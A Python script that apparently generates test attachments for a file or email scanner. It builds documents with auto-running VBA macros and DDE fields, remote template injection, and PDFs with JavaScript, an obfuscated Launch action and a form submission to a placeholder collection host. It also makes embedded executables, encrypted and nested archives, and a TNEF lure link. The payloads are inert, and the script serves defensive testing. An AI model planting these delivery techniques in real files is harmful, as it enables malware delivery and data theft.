"""Makes the attachments of this folder that are not made by hand: see README.md.

Run in this folder, with zip, 7z, qpdf, qrencode and reportlab installed.
"""
import os
import struct
import subprocess
import zipfile

PROGRAM = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(444)


def run(*command):
    subprocess.run(command, check=True, stdout=subprocess.DEVNULL)


def write(name, data):
    with open(name, "wb") as file:
        file.write(data)


def compound(streams):
    """An OLE2 file of one level: a name and at least 4,096 bytes a stream, after MS-CFB."""
    fat, sectors, entries = [], [], []
    entry = lambda name, kind, start, size, child=0xFFFFFFFF, right=0xFFFFFFFF: (
        name.encode("utf-16-le").ljust(64, b"\0")
        + struct.pack("<HBBIII", len(name) * 2 + 2, kind, 1, 0xFFFFFFFF, right, child)
        + bytes(36)
        + struct.pack("<IQ", start, size)
    )

    def chain(data):
        data = data.ljust(-(-len(data) // 512) * 512, b"\0")
        start = len(sectors)
        for at in range(0, len(data), 512):
            sectors.append(data[at : at + 512])
            fat.append(len(sectors))
        fat[-1] = 0xFFFFFFFE
        return start

    for at, (name, data) in enumerate(streams):
        data = data.ljust(4096, b"\0")
        right = at + 2 if at + 1 < len(streams) else 0xFFFFFFFF
        entries.append(entry(name, 2, chain(data), len(data), right=right))
    directory = chain(entry("Root Entry", 5, 0xFFFFFFFE, 0, child=1) + b"".join(entries))
    fat.append(0xFFFFFFFD)
    table = struct.pack("<%dI" % len(fat), *fat).ljust(512, b"\xff")
    header = (
        bytes.fromhex("d0cf11e0a1b11ae1")
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(10)
        + struct.pack("<IIIIIIII", 1, directory, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
        + struct.pack("<I", len(sectors))
        + b"\xff" * 432
    )
    return header + b"".join(sectors) + table


def vba(source):
    """A container of MS-OVBA 2.4.1 in which all is literal."""
    packed = b"\x01"
    for at in range(0, len(source), 3600):
        part = source[at : at + 3600]
        tokens = b"".join(b"\0" + part[i : i + 8] for i in range(0, len(part), 8))
        packed += struct.pack("<H", (len(tokens) - 1) | 0xB000) + tokens
    return packed


MACRO = vba(
    b'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n'
    b'  Shell "notepad.exe"\r\n  \' http://macro.example/next\r\nEnd Sub\r\n'
)
PROJECT = compound([("_VBA_PROJECT", b"\xcc\x61"), ("ThisDocument", b"compiled" + MACRO)])


def document(name, changes):
    """The document of LibreOffice with parts put in or replaced."""
    with zipfile.ZipFile("notes.docx") as notes, zipfile.ZipFile(
        name, "w", zipfile.ZIP_DEFLATED
    ) as out:
        for part in notes.namelist():
            out.writestr(part, changes.pop(part, notes.read(part)))
        for part, data in changes.items():
            out.writestr(part, data)


def relationship(kind, target):
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/%s" Target="%s" TargetMode="External"/></Relationships>' % (kind, target)
    )


def documents():
    write("macro.doc", compound([("_VBA_PROJECT", b""), ("WordDocument", bytes(64)), ("M", MACRO)]))
    document("macro.docm", {"word/vbaProject.bin": PROJECT})
    settings = "word/_rels/settings.xml.rels"
    document("template.docx", {settings: relationship("attachedTemplate", "http://t.example/a.dotm")})
    document("linked.docx", {settings: relationship("hyperlink", "http://shop.example/")})
    field = (
        '<w:document xmlns:w="w"><w:p><w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText>'
        '<w:instrText>AUTO c:\\\\windows\\\\system32\\\\notepad.exe "a"</w:instrText>'
        '<w:fldChar w:fldCharType="end"/></w:p></w:document>'
    )
    document("dde.docx", {"word/document.xml": field})
    write("locked.docx", compound([("EncryptionInfo", b"\4\0\4\0"), ("EncryptedPackage", bytes(8))]))
    package = b"\2\0tool.exe\0C:\\tool.exe\0\0\0\3\0" + struct.pack("<I", 12) + b"C:\\tool.exe\0"
    package += struct.pack("<I", len(PROGRAM)) + PROGRAM
    package = struct.pack("<I", len(package)) + package
    write("object.doc", compound([("WordDocument", bytes(64)), ("\1Ole10Native", package)]))
    write(
        "object.rtf",
        b"{\\rtf1 Some words.{\\object\\objemb\\objupdate{\\*\\objdata 0105000002000000}}"
        b"{\\*\\template http://t.example/b.dotm}}",
    )


def archives():
    write("plan.txt", b"The lantern is lit at nine.\n")
    write("tool.exe", PROGRAM)
    run("zip", "-q", "-X", "-P", "lantern", "secret.zip", "plan.txt")
    run("7z", "a", "-plantern", "-mhe=on", "secret.7z", "plan.txt")
    run("7z", "a", "-plantern", "names.7z", "plan.txt")
    run("7z", "a", "tool.7z", "tool.exe", "plan.txt")
    run("xz", "-k", "plan.txt")
    run("tar", "--format=ustar", "-cJf", "tool.tar.xz", "tool.exe")
    run("zip", "-q", "-X", "three.zip", "tool.exe")
    run("zip", "-q", "-X", "two.zip", "three.zip")
    run("zip", "-q", "-X", "nested.zip", "two.zip")
    for name in ("plan.txt", "tool.exe", "three.zip", "two.zip"):
        os.remove(name)


def pdfs():
    from reportlab.pdfgen import canvas

    def page(name, draw, compress=0):
        pdf = canvas.Canvas(name, pageCompression=compress, invariant=1)
        draw(pdf)
        pdf.showPage()
        pdf.save()

    page("plain.pdf", lambda pdf: pdf.drawString(72, 720, "Quarterly notes"))
    page("link.pdf", lambda pdf: pdf.linkURL("http://shop.example/offer", (72, 700, 200, 730)))
    page("qr.pdf", lambda pdf: pdf.drawImage("qr.png", 72, 500, 200, 200), 1)
    with open("plain.pdf", "rb") as file:
        plain = file.read()
    action = {
        "script.pdf": b"/S /JavaScript /JS (app.alert\\(1\\);)",
        "launch.pdf": b"/S /L#61unch /F (tool.exe)",
        "form.pdf": b"/S /SubmitForm /F << /FS /URL /F (http://collect.example/in) >>",
    }
    for name, keys in action.items():
        opened = plain.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << %s >>" % keys)
        write("unrepaired.pdf", opened)
        subprocess.run(["qpdf", "unrepaired.pdf", name], stderr=subprocess.DEVNULL)
    run("qpdf", "--object-streams=generate", "script.pdf", "packed.pdf")
    write("tool.exe", PROGRAM)
    run("qpdf", "plain.pdf", "--add-attachment", "tool.exe", "--", "embedded.pdf")
    for name in ("unrepaired.pdf", "tool.exe"):
        os.remove(name)


def tnef():
    def attribute(level, number, data):
        checksum = sum(data) & 0xFFFF
        return struct.pack("<BII", level, number, len(data)) + data + struct.pack("<H", checksum)

    name = "tool-of-the-trade.exe\0".encode("utf-16-le")
    properties = struct.pack("<IHHII", 1, 0x1F, 0x3707, 1, len(name)) + name
    properties += bytes(-len(name) % 4)
    html = b'<html><a href="http://in-tnef.example/">www.bank.example</a></html>'
    body = struct.pack("<IHHII", 1, 0x102, 0x1013, 1, len(html)) + html + bytes(-len(html) % 4)
    write(
        "winmail.dat",
        struct.pack("<IH", 0x223E9F78, 1)
        + attribute(1, 0x00089006, struct.pack("<I", 0x00010000))
        + attribute(1, 0x00069003, body)
        + attribute(2, 0x00069002, bytes(14))
        + attribute(2, 0x00018010, b"TOOL~1.EXE\0")
        + attribute(2, 0x0006800F, PROGRAM)
        + attribute(2, 0x00069005, properties)
        + attribute(2, 0x00069002, bytes(14))
        + attribute(2, 0x00018010, b"plan.txt\0")
        + attribute(2, 0x0006800F, b"The lantern is lit at nine.\n"),
    )


if __name__ == "__main__":
    run("qrencode", "-o", "qr.png", "http://code.example/pay")
    run("qrencode", "-o", "words.png", "The lantern is lit at nine.")
    documents()
    archives()
    pdfs()
    tnef()
